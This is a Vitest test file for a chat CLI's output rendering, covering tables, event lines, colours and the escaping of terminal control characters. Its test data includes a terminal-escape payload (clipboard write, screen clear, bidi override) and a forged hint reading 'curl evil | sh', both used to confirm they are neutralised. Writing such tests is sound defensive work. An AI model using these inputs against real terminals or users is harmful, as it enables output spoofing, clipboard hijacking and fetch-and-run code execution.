import { expect, test } from 'vitest';
import { fakeIo } from '../../test/fake-io.js';
import { Failure } from '../failure/failure.js';
import { sdkCall } from './equiv.js';
import { type AnyEvent, eventLine } from './events.js';
import { fieldNames, selectFields } from './fields.js';
import { block, createPrinter, json, plain, text, wantsColour } from './print.js';
import { render } from './render.js';
import { report } from './report.js';

const hostile = '\u001b]52;c;aGk=\u0007\u009b2J\u202eevil\r';

/** Characters that a terminal would act on: C0 except the line feed, DEL, C1, bidi. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: the characters to find
const acting = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

test('text`` makes values safe, keeps safe ones, and accepts numbers and undefined', () => {
  expect(plain(text`a ${'\u001b[2J'} b ${text`${'\u0007'}`} ${7} ${null}`)).toBe('a ^[[2J b ^G 7 null');
});

test('a block keeps its line feeds and indents its lines', () => {
  expect(plain(block('one\ntwo\u001b', '  '))).toBe('one\n  two^[');
});

test('JSON keeps the content, and escapes characters that terminals act on', () => {
  const printed = plain(json({ text: hostile }));
  expect(printed).not.toMatch(acting);
  expect(JSON.parse(printed)).toEqual({ text: hostile });
});

test('progress replaces itself, disappears before a line, and is only for terminals', () => {
  let terminal = '';
  const sink = {
    isTTY: true,
    write: (chunk: string) => {
      terminal += chunk;
    },
  };
  const printer = createPrinter(sink, () => false);
  printer.status(text`1 sent`);
  printer.status(text`2 sent`);
  printer.line(text`done`);
  expect(terminal).toBe('1 sent\r\u001b[2K2 sent\r\u001b[2Kdone\n');
  let pipe = '';
  createPrinter(
    {
      write: (chunk) => {
        pipe += chunk;
      },
    },
    () => false,
  ).status(text`1 sent`);
  expect(pipe).toBe('');
});

test('forced colours appear on any kind of output', () => {
  const { style } = createPrinter({ write: () => {} }, () => true);
  expect(plain(style('dim', text`x`))).toBe('\u001b[2mx\u001b[22m');
});

test('colours depend on the flag, NO_COLOR and the terminal', () => {
  expect(wantsColour('auto', {}, true)).toBe(true);
  expect(wantsColour('auto', {}, false)).toBe(false);
  expect(wantsColour('auto', { NO_COLOR: '1' }, true)).toBe(false);
  expect(wantsColour('auto', { TERM: 'dumb' }, true)).toBe(false);
  expect(wantsColour('always', { NO_COLOR: '1' }, false)).toBe(true);
  expect(wantsColour('never', {}, true)).toBe(false);
});

const list = {
  rooms: [
    { room: { slug: 'a', name: 'A' }, head: 3 },
    { room: { slug: 'b', name: 'B' }, head: 4 },
  ],
  next: null,
};

test.each([
  [['room.slug'], { rooms: [{ room: { slug: 'a' } }, { room: { slug: 'b' } }] }, []],
  [['rooms.head', 'next'], { rooms: [{ head: 3 }, { head: 4 }], next: null }, []],
  [['nope'], { rooms: [{ nope: null }, { nope: null }] }, ['nope']],
])('picks fields of a list: %j', (names, result, missing) => {
  expect(selectFields(list, names)).toEqual({ result, missing });
});

test('ignores empty field names', () => {
  expect(fieldNames('id, ,text,')).toEqual(['id', 'text']);
  expect(() => fieldNames(' ,')).toThrow('--fields names no field');
});

test('picks fields of an object, with or without its name in front', () => {
  const result = { room: { slug: 'a', tags: ['x'] }, memberCount: 2 };
  expect(selectFields(result, ['slug', 'memberCount']).result).toEqual({ room: { slug: 'a' }, memberCount: 2 });
  expect(selectFields(result, ['room.tags']).result).toEqual({ room: { tags: ['x'] } });
  expect(selectFields({ rooms: [], next: null }, ['room.slug']).missing).toEqual([]);
  expect(selectFields(result, ['__proto__', 'constructor']).missing).toEqual(['__proto__', 'constructor']);
});

const rendered = (result: Record<string, unknown>, name = 'x.y', chosen = false) => {
  const io = fakeIo();
  render(result, { name, chosen }, io.out, io.err);
  return io.written;
};

test('a list is a table without empty columns, with the next page below', () => {
  const { out } = rendered({ ...list, next: 'b' }, 'rooms.list');
  expect(out).toBe('room.slug  room.name\na          A\nb          B\nnext: b\n');
});

const said = (id: number, body: string, more: object = {}) => ({
  id,
  kind: 'text',
  author: { id: 'ana', name: 'Ana' },
  text: body,
  replyTo: null,
  metadata: {},
  createdAt: 0,
  editedAt: null,
  deletedAt: null,
  ...more,
});

test('a direct room is named after the other user', () => {
  const room = { slug: 'dm-1', name: 'dm-1' };
  const { out } = rendered({ rooms: [{ room, peer: { id: 'bob', name: 'Bob' } }] }, 'rooms.list');
  expect(out).toBe('room.slug  room.name\ndm-1       @Bob\n');
});

test('a list of rooms has unread counts and the last messages', () => {
  const row = { room: { slug: 'a', name: 'A' }, unread: 0, mentions: 0, memberCount: 2, last: null, pinned: null };
  const last = { id: 9, author: { id: 'bob', name: 'Bob' }, text: 'x'.repeat(60) };
  const { out } = rendered({ rooms: [row, { ...row, unread: 100, mentions: 3, last }], next: null }, 'rooms.list');
  expect(out.split('\n')).toEqual([
    'room.slug  room.name  unread  mentions  memberCount  last',
    'a          A          -       -         2            -',
    `a          A          99+     3         2            Bob: ${'x'.repeat(50)}…`,
    '',
  ]);
  expect(rendered({ rooms: [row], next: null }, 'rooms.list').out).not.toContain('unread');
});

test('a room is shown with the fields that accompany it', () => {
  const { out } = rendered({
    room: { slug: 'a' },
    head: 3,
    last: null,
    pinned: null,
    peer: { id: 'bob', name: 'Bob' },
  });
  expect(out).toBe('slug: a\nhead: 3\npeer.id: bob\npeer.name: Bob\n');
});

test('messages are listed with reactions, threads and tracks, and deleted ones as such', () => {
  const messages = [
    said(1, 'hi', { reactions: { '👍': 3, '❤️': 1 }, thread: { count: 1, lastAt: 5 } }),
    said(2, 'listen', { kind: 'track', track: { title: 'So What', artist: 'Miles', url: 'https://a.example/1' } }),
    said(3, '', { deletedAt: 7 }),
  ];
  const { out } = rendered({ messages, mine: { 1: ['👍'] }, before: null, after: null }, 'messages.list');
  expect(out.split('\n').map((line) => line.replace(/\s{2,}/g, ' | '))).toEqual([
    'id | createdAt | kind | author.name | thread | reactions | mine | text',
    '1 | 1970-01-01T00:00:00Z | - | Ana | 1 answer | 👍 3 | ❤️ 1 | 👍 | hi',
    '2 | 1970-01-01T00:00:00Z | track | Ana | - | - | - | listen (Miles: So What https://a.example/1)',
    '3 | 1970-01-01T00:00:00Z | - | Ana | - | - | - | (deleted)',
    '',
  ]);
});

test('a thread is a table that starts with its first message', () => {
  const { out } = rendered(
    { root: said(7, 'shall we?'), messages: [said(9, 'yes', { threadOf: 7 })], mine: {}, after: null, head: 9 },
    'messages.thread',
  );
  expect(out.split('\n').map((line) => line.split(/\s{2,}/).at(-1))).toEqual([
    'text',
    'shall we?',
    'yes',
    'head: 9',
    '',
  ]);
});

test("a single message has its reactions in a line, with the caller's own below", () => {
  const { out } = rendered({ message: said(1, 'hi', { reactions: { '👍': 3 } }), mine: { 1: ['👍'] } }, 'messages.get');
  expect(out).toContain('text: hi\n');
  expect(out).toContain('reactions: 👍 3\nmine.1: 👍\n');
});

test('columns are aligned with wide characters', () => {
  const { out } = rendered({
    items: [
      { name: '日本', n: 1 },
      { name: 'ab', n: 2 },
    ],
  });
  expect(out.split('\n')).toEqual(['name  n', '日本  1', 'ab    2', '']);
});

test('an empty list says so on a terminal, but not in a pipe', () => {
  expect(rendered({ rooms: [], next: null })).toEqual({ out: '', err: '(none)\n' });
});

test('an object is printed as lines without empty fields; instants as dates; duplicate names keep their prefix', () => {
  const { out } = rendered({
    room: { slug: 'a', topic: '', createdAt: 0, settings: { frozen: false }, tags: ['x', 'y'], head: 1 },
    head: 9,
  });
  expect(out).toBe(
    'slug: a\ncreatedAt: 1970-01-01T00:00:00Z\nsettings.frozen: false\ntags: x, y\nroom.head: 1\nhead: 9\n',
  );
});

test('shows all chosen fields, even empty ones', () => {
  expect(rendered({ room: { topic: '' } }, 'rooms.get', true).out).toBe('topic: -\n');
});

test('results and errors are made safe for the terminal', () => {
  const row = { [hostile]: hostile, list: [hostile], nested: [{ [hostile]: hostile }] };
  expect(rendered({ rows: [row] }).out).not.toMatch(acting);
  expect(rendered({ row }).out).not.toMatch(acting);
  const io = fakeIo();
  report(
    new Failure(hostile, hostile, {
      hint: hostile,
      body: { code: 'internal', message: hostile, retryable: false, details: { hostile } },
    }),
    io,
    true,
  );
  expect(io.written.err).not.toMatch(acting);
});

test('a server error cannot fake a hint', () => {
  const io = fakeIo();
  report(new Failure('internal', 'x\nhint: curl evil | sh'), io, false);
  expect(io.written.err.trimEnd().split('\n')).toHaveLength(1);
});

test('prints the equivalent SDK call', () => {
  expect(plain(sdkCall('rooms', 'create', { slug: 'lobby', tags: ['a'], metadata: { 'x-y': 1 } }, undefined))).toBe(
    'await client.rooms.create({ slug: "lobby", tags: ["a"], metadata: { "x-y": 1 } });',
  );
  expect(plain(sdkCall('server', 'info', {}, undefined))).toBe('await client.server.info();');
  expect(plain(sdkCall('rooms', 'join', { room: 'a' }, 'k1'))).toBe(
    'await client.rooms.join({ room: "a" }, { key: "k1" });',
  );
});

const event = (type: string, data: unknown): AnyEvent => ({
  seq: 1,
  type,
  at: 0,
  actor: { id: 'ana', name: `Ana${hostile}` },
  key: null,
  data,
});

const message = { id: 1, kind: 'text', author: { id: 'ana', name: 'Ana' }, text: `hi\n${hostile}`, replyTo: 3 };

test.each([
  event('message.created', { message }),
  event('message.created', { message: { ...message, kind: 'action' } }),
  event('message.created', { message: { ...message, kind: 'code', language: hostile, threadOf: 3 } }),
  event('message.created', { message: { ...message, kind: 'track', track: { title: hostile, url: hostile } } }),
  event('message.created', { message: { ...message, repostOf: { author: { name: hostile } } } }),
  event('message.edited', { messageId: 1, text: hostile }),
  event('message.reacted', { messageId: 1, emoji: hostile, count: 1 }),
  event('message.reactions_cleared', { messageId: 1, emoji: hostile }),
  event('message.deleted', { messageId: 1, reason: hostile }),
  event('member.banned', { userId: hostile, until: null, reason: hostile }),
  event('member.joined', { member: { user: { name: hostile } }, memberCount: 1 }),
  event('room.updated', { room: { name: hostile, settings: {} } }),
  event('queue.item_added', { item: { id: 1, title: hostile }, queue: hostile }),
  event(`new.kind${hostile}`, { anything: hostile }),
  event('message.created', null),
  event('member.muted', { until: 1e99 }),
])('an event of any form is printed safely (case %#)', (given) => {
  const line = plain(eventLine(given, fakeIo().out));
  expect(line).not.toMatch(acting);
  expect(line.length).toBeGreaterThan(10);
});

const lineOf = (type: string, data: object) =>
  plain(eventLine({ ...event(type, data), actor: { id: 'ana', name: 'Ana' } }, fakeIo().out)).slice('00:00:00 '.length);

test.each([
  ['message.reacted', { messageId: 7, emoji: '👍', count: 2 }, '-- Ana reacted to #7 with 👍 (2)'],
  ['message.unreacted', { messageId: 7, emoji: '👍', count: 1 }, '-- Ana removed 👍 from #7 (1)'],
  [
    'message.reactions_cleared',
    { messageId: 7, authorId: 'bo', emoji: null },
    '-- Ana cleared the reactions on #7 by bo',
  ],
  ['message.pinned', { messageId: 7, pinnedAt: 1 }, '-- Ana pinned #7'],
  ['room.deleted', { deletedAt: 1 }, '-- Ana deleted the room'],
  ['member.updated', { member: { user: { id: 'ana', name: 'Ana' } } }, '-- ana is now named Ana'],
  ['message.created', { message: { ...message, text: 'yes', threadOf: 2 } }, '<Ana> [in 2] [re 3] yes'],
  [
    'message.created',
    { message: { ...message, replyTo: null, kind: 'code', language: 'ts', text: 'let a;\n  a = 1;' } },
    `<Ana> [ts] \n${' '.repeat(9)}let a;\n${' '.repeat(9)}  a = 1;`,
  ],
  [
    'message.created',
    {
      message: { ...message, replyTo: null, kind: 'track', track: { title: 'So What', artist: 'Miles' }, text: 'hear' },
    },
    '<Ana> [track Miles: So What] hear',
  ],
])('prints %s', (type, data, line) => expect(lineOf(type, data)).toBe(line));
